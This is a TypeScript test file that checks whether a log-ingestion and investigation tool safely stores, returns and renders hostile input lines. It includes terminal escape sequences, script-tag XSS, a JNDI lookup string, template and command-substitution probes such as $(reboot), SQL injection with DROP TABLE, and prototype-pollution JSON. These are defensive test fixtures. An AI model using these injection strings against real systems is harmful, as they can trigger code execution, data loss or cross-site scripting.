import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { expect, it } from 'vitest';
import { ROOT, settledBooks, startProduct } from './fixtures/running-product.ts';

/* Lines that want to be more than text: to a parser, a terminal, a browser or a template. */

const run = promisify(execFile);
const HOSTILE = [
  Buffer.from('nul \0 in the middle \0\0'),
  Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0x20, 0xed, 0xa0, 0x80]),
  Buffer.from('\u001b[2J\u001b]0;owned\u0007 \u009b31m \u202egnp.exe'),
  Buffer.from('<img src=x onerror=alert(1)></script><script>alert(2)</script>'),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack, not a template
  Buffer.from('${jndi:ldap://192.0.2.1/a} {{7*7}} <%= 1 %> #{x} $(reboot) `id` %s%n'),
  Buffer.from("'; DROP TABLE events; -- \\u0000 \\x00"),
  Buffer.from(`{"a":${'['.repeat(20_000)}${']'.repeat(20_000)}}`),
  Buffer.from('{"__proto__":{"polluted":true},"constructor":{"prototype":{"x":1}}}'),
  Buffer.from('{"truncated": "half a li'),
  Buffer.from(`long ${'y'.repeat(1024 * 1024 - 5)}`),
];

/** Failed log-ins of an account whose name is hostile, in the form of sshd. */
const attack = (name: string): string =>
  Array.from({ length: 30 }, (_, n) => {
    const at = new Date(Date.UTC(2026, 10, 24, 6, 0, n)).toISOString();
    return `<86>1 ${at} web-1 sshd ${900 + n} - - Failed password for invalid user ${name} from 203.0.113.9 port ${40_000 + n} ssh2`;
  }).join('\n');

it('takes every line verbatim, ends each once, and gives it back as data', async () => {
  await using product = await startProduct();
  const push = await product.pushSource('edge');
  const body = Buffer.concat(HOSTILE.flatMap((line) => [line, Buffer.from('\n')]));
  expect(await push(body)).toMatchObject({ status: 200, body: { accepted: HOSTILE.length } });
  await settledBooks(product, HOSTILE.length);
  for (const [offset, line] of HOSTILE.entries()) {
    const answer = await product.call(`/api/v1/records/${offset}`);
    expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect([...answer.text].every((character) => character >= ' ')).toBe(true);
    expect(JSON.stringify(answer.body)).toContain(JSON.stringify(line.toString()).slice(1, 60));
  }
  expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
  const letters = await product.call('/api/v1/dead-letters');
  const items = letters.body['items'] as readonly { readonly problem: { readonly code: string } }[];
  for (const { problem } of items) expect(problem.code).toMatch(/^(record|event)_/);
  const long = await push(Buffer.alloc(1024 * 1024 + 1, 'z'));
  expect(long).toMatchObject({ status: 413, body: { code: 'payload_too_large' } });
  expect(long.body['detail']).toContain('Line 1');
});

it('shows a terminal and a browser text that neither obeys', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'cordon-hostile-text-'));
  const report = join(dir, 'report.html');
  const name = '\u001b[2J\u001b]0;x\u0007<script>alert(1)</script>{{7*7}}\u202e';
  await writeFile(join(dir, 'auth.log'), `${attack(name)}\n`);
  const main = join(ROOT, 'packages', 'cli', 'src', 'main.ts');
  const told = await run(process.execPath, [main, 'investigate', dir, '--html', report]).catch(
    (error: { readonly stdout: string; readonly stderr: string; readonly code: number }) => error,
  );
  expect('code' in told ? told.code : 0).toBe(3);
  for (const text of [told.stdout, told.stderr])
    expect(text.replaceAll(/[\n\t]/g, '')).not.toMatch(/[\p{Cc}\u202a-\u202e]/u);
  const html = await readFile(report, 'utf8');
  expect(html).toContain('&lt;script&gt;alert(1)');
  expect(html).not.toContain('<script>alert(1)');
  expect(html.replaceAll(/[\n\t]/g, '')).not.toMatch(/[\p{Cc}\u202a-\u202e]/u);
  await rm(dir, { recursive: true });
});
